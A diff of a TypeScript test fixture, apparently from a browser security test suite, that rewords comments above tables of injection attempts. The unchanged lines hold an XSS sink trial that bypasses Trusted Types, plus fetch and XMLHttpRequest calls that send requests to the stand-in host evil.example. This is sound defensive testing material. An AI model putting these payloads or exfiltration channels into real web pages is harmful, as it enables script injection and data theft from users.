@@ -1,7 +1,7 @@
-/** Stands for another site, whose files NAME.js run `hacked.NAME = 1`. */
+/** Another site. Its files NAME.js run `hacked.NAME = 1`. */
 export const EVIL = "https://evil.example";
 
-/** Attacks by name. One has worked when `hacked.NAME` is set, or when Evil gets a request for `/NAME`. */
+/** Attacks by name. An attack has worked if `hacked.NAME` is set, or if Evil gets a request for `/NAME`. */
 type Trials = Readonly<Record<string, string>>;
 
 /** Markup that a mistake in escaping would let into a page. */
@@ -112,7 +112,7 @@ export const SINKS: Trials = {
 		"{ const p = self.trustedTypes?.createPolicy('other', { createHTML: (text) => text }); host.innerHTML = p ? p.createHTML(img('newPolicy')) : img('newPolicy') }",
 };
 
-/** Channels of code that already runs. */
+/** Ways in which running code can send data. */
 export const CHANNELS: Trials = {
 	fetch: `fetch('${EVIL}/fetch', { mode: 'no-cors' })`,
 	request: `{ const r = new XMLHttpRequest(); r.open('GET', '${EVIL}/request'); r.send() }`,
